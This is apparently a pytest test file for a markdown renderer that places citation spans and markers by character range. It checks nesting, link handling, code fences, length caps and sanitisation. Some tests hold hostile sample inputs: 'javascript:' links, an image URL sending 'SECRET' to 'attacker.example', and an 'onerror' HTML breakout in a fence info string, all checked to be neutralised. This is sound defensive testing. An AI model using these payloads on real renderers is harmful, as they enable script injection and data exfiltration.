"""Attributed spans: placement by code-point range, well-formed whatever the markdown."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from conversations.rendering.markdown import MAX_MARKDOWN_CHARS, Cite, render_markdown
from conversations.rendering.sanitize import clean_html

from .helpers import (
    MARKDOWN_ALLOWED,
    cited_texts,
    elements,
    markers,
    nesting_errors,
    nh3_removes_nothing,
    policy_problems,
    text_without_markers,
)


def cite(text: str, snippet: str, number: int = 1, **kw: object) -> Cite:
    start = text.index(snippet)
    return Cite(number, start, start + len(snippet), **kw)  # type: ignore[arg-type]


def render(text: str, *cites: Cite) -> str:
    html = render_markdown(text, cites, anchor_prefix="src-t-")
    assert not nesting_errors(html), html
    assert not policy_problems(html, MARKDOWN_ALLOWED), html
    assert clean_html(html) == html
    assert text_without_markers(html) == text_without_markers(render_markdown(text))
    return html


def test_plain_markdown_has_no_citation_markup() -> None:
    html = render("Hello **world**")
    assert html == "<p>Hello <strong>world</strong></p>\n"


def test_single_range_gets_span_and_marker() -> None:
    text = "Rain fell. The river rose."
    html = render(text, cite(text, "The river rose", title="Gauges"))
    assert cited_texts(html) == {1: "The river rose"}
    [marker] = markers(html)
    assert marker == {
        "class": "cite-marker",
        "href": "#src-t-1",
        "data-source": "1",
        "aria-label": "Source 1: Gauges",
        "text": "[1]",
    }
    # the marker follows the cited text
    assert html.index("</span>") < html.index('class="cite-marker"')


def test_overlapping_ranges() -> None:
    text = "alpha beta gamma delta"
    html = render(text, cite(text, "alpha beta gamma", 1), cite(text, "beta gamma delta", 2))
    assert cited_texts(html) == {1: "alpha beta gamma", 2: "beta gamma delta"}
    assert 'data-sources="1 2"' in html


def test_nested_ranges() -> None:
    text = "one two three four five"
    html = render(text, cite(text, "one two three four five", 1), cite(text, "three", 2))
    assert cited_texts(html) == {1: "one two three four five", 2: "three"}
    assert [m["data-source"] for m in markers(html)] == ["2", "1"]


def test_range_across_blocks_is_split_per_block() -> None:
    text = "First para ends here.\n\n- item one\n- item two\n\n# Heading\n\nLast para."
    start = text.index("ends")
    end = text.index("Last") + len("Last")
    html = render(text, Cite(1, start, end))
    assert cited_texts(html)[1].replace("\n", "") == "ends here.item oneitem twoHeadingLast"
    # one span per block, each closed inside its block
    assert html.count('<span class="cite" data-sources="1">') == 5
    assert html.count("cite-marker") == 1


def test_range_across_emphasis_boundaries_nests_properly() -> None:
    text = "plain *emphasised words* and **strong text** end"
    html = render(text, cite(text, "sised words* and **str"))
    assert cited_texts(html)[1] == "sised words and str"


def test_code_span_is_split_and_still_marked() -> None:
    text = "Call `compute(rate, base)` daily."
    html = render(text, cite(text, "rate, base)` daily"))
    assert "<code>compute(" in html
    assert cited_texts(html)[1] == "rate, base) daily"
    # the marker is not inside the code element
    assert html.index("</code>") < html.index("cite-marker")


def test_fence_is_split_and_marker_after_code() -> None:
    text = "Intro text.\n\n```python\nx = 1\ny = 2\n```\n\nAfter."
    html = render(text, cite(text, "1\ny = 2"))
    # highlighted, with the cite span outside the token spans
    assert ('<pre><code class="language-python">x <span class="hl-o">=</span> '
            '<span class="cite" data-sources="1"><span class="hl-mi">1</span>') in html
    assert cited_texts(html)[1] == "1\ny = 2"
    assert html.index("</code>") < html.index("cite-marker") < html.index("</pre>")


def test_range_ending_inside_link_text_puts_marker_after_link() -> None:
    text = "Read [the full report](https://example.org/report) today."
    html = render(text, cite(text, "Read [the full"))
    assert cited_texts(html)[1] == "Read the full"
    assert 'report</a>\u2060<a class="cite-marker"' in html


def test_boundary_inside_link_target_moves_after_link() -> None:
    text = "See [docs](https://example.org/a/b) now."
    start = text.index("See")
    end = text.index("example")
    html = render(text, Cite(1, start, end))
    assert "https://example.org/a/b" in html  # the target is intact
    assert cited_texts(html)[1] == "See docs"
    assert html.index("</a>") < html.index("cite-marker")


def test_openai_parenthesised_link_is_not_wrapped_in_a_second_link() -> None:
    # OpenAI url_citation: the annotation range covers "([site](url))" the model wrote.
    text = "Prices rose sharply ([reuters.com](https://www.reuters.com/x?utm_source=openai))."
    html = render(text, cite(text, "([reuters.com](https://www.reuters.com/x?utm_source=openai))"))
    assert html.count("<a ") == 2  # the model's link and one marker
    assert cited_texts(html)[1] == "(reuters.com)"
    assert '</a>)</span>\u2060<a class="cite-marker"' in html


def test_whole_event_attribution() -> None:
    text = "Paragraph one.\n\nParagraph two."
    html = render(text, Cite(3))
    assert cited_texts(html)[3] == "Paragraph one.Paragraph two."
    assert html.rstrip().endswith("[3]</a></p>")


def test_incomplete_attribution_marker_class() -> None:
    text = "Half a sentence"
    html = render(text, Cite(1, incomplete=True))
    assert markers(html)[0]["class"] == "cite-marker cite-incomplete"


def test_sentinel_code_points_in_model_text_are_removed_and_ranges_remapped() -> None:
    forged = "\U000f0000\U000f0001"
    text = f"A{forged}B cited part\r\nnext"
    html = render(text, cite(text, "cited part"))
    assert "\U000f0000" not in html and "\U000f0001" not in html
    assert cited_texts(html) == {1: "cited part"}


def test_empty_and_invalid_ranges_keep_a_marker() -> None:
    text = "Some words here"
    html = render(text, Cite(1, 5, 5), Cite(2, None, None))
    assert {m["data-source"] for m in markers(html)} == {"1", "2"}


def test_emphasis_parses_the_same_with_a_boundary_next_to_it() -> None:
    text = "see _this_ and __that__ here"
    for start in range(len(text)):
        html = render(text, Cite(1, start, len(text)))
        assert html.count("<em>") == 1 and html.count("<strong>") == 1, (start, html)


def test_block_syntax_untouched_by_boundaries_in_prefixes() -> None:
    text = "> quoted line\n> more\n\n1. first\n2. second\n\n| a | b |\n|---|---|\n| c \\| d | e |"
    for start in range(0, len(text), 3):
        html = render(text, Cite(1, start, min(len(text), start + 7)))
        assert "<blockquote>" in html and "<ol>" in html and "<table>" in html


def test_reference_link_label_with_boundary_still_resolves() -> None:
    text = "Use [the spec][spec] please.\n\n[spec]: https://spec.example.org/"
    html = render(text, cite(text, "spec][spec"))
    assert 'href="https://spec.example.org/"' in html


def test_model_links_with_bad_schemes_are_not_links() -> None:
    html = render("[a](javascript:alert(1)) [b](/relative) [c](//evil.example) <javascript:x>")
    assert "<a " not in html


def test_images_are_not_loaded() -> None:
    html = render("![x](https://attacker.example/log?d=SECRET)")
    assert "<img" not in html
    assert 'href="https://attacker.example/log?d=SECRET"' in html


def test_long_input_takes_the_capped_path() -> None:
    text = "[a" * (MAX_MARKDOWN_CHARS // 2 + 1)
    html = render_markdown(text, [Cite(1)], anchor_prefix="src-t-")
    assert html.startswith('<p class="render-note">')
    assert '<pre class="render-plain">[a[a' in html
    assert markers(html)[0]["data-source"] == "1"
    assert clean_html(html) == html
    assert nh3_removes_nothing(html)


def test_the_cap_counts_the_text_as_parsed() -> None:
    # A CRLF line end is one character to the parser: text over the cap only by its CRs is
    # still parsed, text over it by one more character is not.
    line = "word " * 9 + "\r\n"
    text = line * (MAX_MARKDOWN_CHARS // (len(line) - 1))
    assert len(text) > MAX_MARKDOWN_CHARS >= len(text.replace("\r\n", "\n"))
    parsed = render_markdown(text)
    assert parsed.startswith("<p>word word")
    assert not parsed.startswith('<p class="render-note">')
    over = text + "x" * (MAX_MARKDOWN_CHARS - len(text.replace("\r\n", "\n")) + 1)
    assert render_markdown(over).startswith('<p class="render-note">')


@pytest.mark.parametrize("text", ["see http://a.example/x.", "*http://a.example/x*"])
def test_a_range_ending_after_a_bare_url_leaves_the_link_as_it_was(text: str) -> None:
    cited = render_markdown(text, [Cite(1, 0, len(text))], anchor_prefix="s-")
    assert 'href="http://a.example/x"' in render_markdown(text)
    assert 'href="http://a.example/x"' in cited


@pytest.mark.parametrize("text", ["http://a.example/x&amp;", "see http://a.example/x ok",
                                  "<http://a.example/x> ok", "go www.example.com/x now"])
def test_a_range_anywhere_in_a_link_keeps_the_link_and_its_text(text: str) -> None:
    # A boundary inside "http://" or a "www." domain would split what linkify (or an autolink)
    # needs whole: the link would be lost, and an entity after it read differently.
    links = re.compile(r'<a href="(http[^"]*)"')
    plain = render_markdown(text)
    for start in range(len(text)):
        for end in range(start + 1, len(text) + 1):
            cited = render_markdown(text, [Cite(1, start, end)], anchor_prefix="s-")
            assert links.findall(cited) == links.findall(plain), (start, end)
            assert text_without_markers(cited).rstrip() == text_without_markers(plain).rstrip()


@pytest.mark.parametrize("lang", ["python", '"><img src=x onerror=alert(1)>', "x onerror"])
def test_fence_info_cannot_break_out(lang: str) -> None:
    html = render(f"```{lang}\ncode\n```", Cite(1))
    assert not policy_problems(html, MARKDOWN_ALLOWED)


@pytest.mark.parametrize(
    "text",
    [
        "see www.example.com today",
        "mail a@b.example now",
        "http://localhost:8000/x and localhost",
        "ip 192.168.1.1 and //proto.example/x",
        "plain prose. Nothing here. Really.",
        "version 1.2.3 and e.g. this",
        "xn--p1ai.рф and пример.рф",
        "https://example.com/a_(b)",
    ],
)
def test_linkify_finds_what_markdown_it_finds(text: str) -> None:
    # The renderer short-cuts linkify-it's test on text that cannot hold a link; the links
    # found must be exactly markdown-it's (restricted to the schemes we allow).
    vanilla = MarkdownIt("js-default", {"typographer": False, "linkify": True}).render(text)
    expected = [
        el.attrib["href"]
        for el in elements(vanilla)
        if el.tag == "a" and el.attrib["href"].startswith(("http://", "https://", "mailto:"))
    ]
    assert [el.attrib["href"] for el in elements(render(text)) if el.tag == "a"] == expected
